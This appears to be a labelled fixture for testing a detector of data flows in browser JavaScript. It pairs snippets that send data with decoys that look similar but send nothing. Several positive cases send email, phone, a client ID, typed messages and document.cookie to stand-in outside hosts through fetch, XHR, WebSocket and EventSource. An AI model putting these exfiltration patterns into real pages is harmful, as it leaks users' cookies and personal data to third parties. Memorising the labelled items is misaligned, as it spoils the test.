//# fetch-post-form-data
// flow: email > fd.net2.example via fetch
const fd = new FormData();
fd.append('mail', document.querySelector('input[type=email]').value);
fetch('https://fd.net2.example/in', { method: 'POST', body: fd });

//# form-data-never-sent
// no flow
// why: the FormData is filled but no request carries it
const unsent = new FormData();
unsent.append('mail', document.querySelector('input[type=email]').value);
fetch('https://fd0.net2.example/ping', { method: 'POST' });

//# fetch-relative
// flow: password > self via fetch
fetch('/api/login', {
  method: 'POST',
  body: JSON.stringify({ pw: document.querySelector('input[type=password]').value }),
});

//# fetch-custom-header
// flow: identifier > hd.net2.example via fetch
fetch('https://hd.net2.example/', { headers: { 'X-Cid': localStorage.getItem('client_id') } });

//# fetch-option-ignored
// no flow
// why: `data` is no option of fetch, the browser ignores it
fetch('https://opt.net2.example/', { method: 'POST', data: document.querySelector('input[type=email]').value });

//# xhr-body
// flow: phone > x.net2.example via xhr
const x1 = new XMLHttpRequest();
x1.open('POST', 'https://x.net2.example/tel');
x1.send('tel=' + document.querySelector('input[type=tel]').value);

//# xhr-send-without-data
// no flow
// why: the value is stored on the object as a plain property, which is not sent
const x2 = new XMLHttpRequest();
x2.open('POST', 'https://x2.net2.example/tel');
x2.payload = document.querySelector('input[type=tel]').value;
x2.send('ok');

//# beacon-blob
// flow: device > bl.net2.example via beacon
const blob = new Blob([JSON.stringify({ ua: navigator.userAgent })], { type: 'application/json' });
navigator.sendBeacon('https://bl.net2.example/b', blob);

//# beacon-fixed-text
// no flow
// why: the user agent is only logged
const agent = navigator.userAgent;
console.log(agent);
navigator.sendBeacon('https://bl0.net2.example/b', 'loaded');

//# websocket-send
// flow: message > ws.net2.example via websocket
const ws = new WebSocket('wss://ws.net2.example/chat');
ws.onopen = function () {
  ws.send(document.querySelector('textarea[name=message]').value);
};

//# websocket-incoming-only
// no flow
// why: the socket only receives; what it receives is put beside the message typed
const feed = new WebSocket('wss://in.net2.example/feed');
feed.onmessage = function (e) {
  const box = document.querySelector('textarea[name=message]');
  box.value = box.value + e.data;
};

//# eventsource-query
// flow: identifier > es.net2.example via eventsource
const es = new EventSource('https://es.net2.example/s?c=' + encodeURIComponent(document.cookie));
es.onmessage = console.log;

//# eventsource-closed-url-constant
// no flow
// why: the cookie is shown, not put into the address
const es0 = new EventSource('https://es0.net2.example/s');
es0.onmessage = function (e) { console.log(e.data, document.cookie); };

//# look-alike-fetch
// no flow
// why: the local function called fetch only logs
(function () {
  function fetch(url, init) { console.log('would call', url, init); }
  fetch('https://fake.net2.example/', { method: 'POST', body: document.querySelector('input[type=password]').value });
})();

//# request-built-only
// no flow
// why: a Request object is made and dropped
const rq0 = new Request('https://rq0.net2.example/', {
  method: 'POST',
  body: document.querySelector('input[type=password]').value,
});
console.log(rq0.method);

//# get-request-fragment
// no flow
// why: the fragment of an address is not sent
fetch('https://frag0.net2.example/page#' + encodeURIComponent(document.querySelector('input[type=search]').value));
